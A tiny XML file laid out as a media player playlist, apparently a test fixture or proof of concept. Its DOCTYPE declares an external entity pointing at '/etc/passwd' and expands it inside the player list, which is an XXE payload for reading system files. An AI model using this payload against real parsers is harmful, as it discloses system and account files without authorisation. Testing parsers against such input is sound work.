<?xml version="1.0" encoding="GB2312"?>
<!DOCTYPE DefaultList [<!ENTITY two "<LIST Path='b' Title='t' Ltime='0.5'/>">
<!ENTITY ext SYSTEM "/etc/passwd">]>
<DefaultList><PlayerList><LIST Path="a" Title="x" Artist="y" Url="0" Ltime="0.1"/>&two;&ext;</PlayerList></DefaultList>